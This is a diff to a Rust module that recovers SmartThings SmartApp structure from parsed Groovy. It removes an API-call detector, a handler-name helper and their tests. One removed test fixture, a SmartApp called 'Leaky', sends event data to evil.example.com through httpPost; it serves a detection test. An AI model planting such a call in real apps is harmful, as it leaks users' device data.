@@ -7,11 +7,10 @@
 //! `app`).  This module walks the parsed AST and recovers that structure, which
 //! is what the Translator (§6 of the paper) calls the *SmartThings Handler*.
 
-use crate::ast::{walk_expr, walk_stmt_exprs, Arg, Expr, Item, MethodDecl, Script, Stmt};
+use crate::ast::{walk_stmt_exprs, Arg, Expr, Item, MethodDecl, Script, Stmt};
 use crate::error::{ParseError, Result};
 use crate::parser::parse;
 use crate::span::Span;
-use std::collections::BTreeSet;
 
 /// Metadata from the `definition(...)` call.
 #[derive(Debug, Clone, PartialEq, Default)]
@@ -188,14 +187,6 @@ impl SmartApp {
     /// All device-typed inputs (the devices the user must configure).
     pub fn device_inputs(&self) -> impl Iterator<Item = &InputDecl> {
         self.inputs.iter().filter(|i| i.kind.is_device())
-    }
-
-    /// Names of all handler methods referenced by subscriptions or schedules.
-    pub fn handler_names(&self) -> BTreeSet<String> {
-        let mut names: BTreeSet<String> =
-            self.subscriptions.iter().map(|s| s.handler.clone()).collect();
-        names.extend(self.schedules.iter().map(|s| s.handler.clone()));
-        names
     }
 
     /// Looks up the method body of a handler.
@@ -435,23 +426,6 @@ fn handler_name(arg: Option<&Arg>) -> Option<String> {
     }
 }
 
-/// Returns every method-call name (with no receiver) appearing in a method
-/// body.  Used by the translator to detect SmartThings API usage such as
-/// `sendSms`, `httpPost`, `unsubscribe` and `sendEvent`.
-pub fn api_calls(method: &MethodDecl) -> BTreeSet<String> {
-    let mut out = BTreeSet::new();
-    for stmt in &method.body.stmts {
-        walk_stmt_exprs(stmt, &mut |e| {
-            walk_expr(e, &mut |e| {
-                if let Expr::MethodCall { object: None, name, .. } = e {
-                    out.insert(name.clone());
-                }
-            });
-        });
-    }
-    out
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -570,11 +544,13 @@ def checkMotion() {
     #[test]
     fn handler_names_cover_subscriptions_and_schedules() {
         let app = SmartApp::parse(SAMPLE).unwrap();
-        let names = app.handler_names();
-        assert!(names.contains("temperatureHandler"));
-        assert!(names.contains("motionHandler"));
-        assert!(names.contains("checkMotion"));
-        assert!(app.handler("temperatureHandler").is_some());
+        let subscribed: Vec<&str> = app.subscriptions.iter().map(|s| s.handler.as_str()).collect();
+        assert!(subscribed.contains(&"temperatureHandler"));
+        assert!(subscribed.contains(&"motionHandler"));
+        assert_eq!(app.schedules[0].handler, "checkMotion");
+        let mut handlers =
+            subscribed.into_iter().chain(app.schedules.iter().map(|s| s.handler.as_str()));
+        assert!(handlers.all(|h| app.handler(h).is_some()));
     }
 
     #[test]
@@ -634,24 +610,6 @@ def poll() { }
         assert_eq!(app.schedules.len(), 2);
         assert_eq!(app.schedules[0].cron.as_deref(), Some("0 0 22 * * ?"));
         assert_eq!(app.schedules[1].delay_seconds, Some(900));
-    }
-
-    #[test]
-    fn api_calls_detected() {
-        let src = r#"
-definition(name: "Leaky", namespace: "st", author: "a", description: "d")
-preferences { section("s") { input "phone", "phone" } }
-def handler(evt) {
-    sendSms(phone, "alert")
-    httpPost("http://evil.example.com", evt.value)
-    unsubscribe()
-}
-"#;
-        let app = SmartApp::parse(src).unwrap();
-        let calls = api_calls(app.script.method("handler").unwrap());
-        assert!(calls.contains("sendSms"));
-        assert!(calls.contains("httpPost"));
-        assert!(calls.contains("unsubscribe"));
     }
 
     #[test]
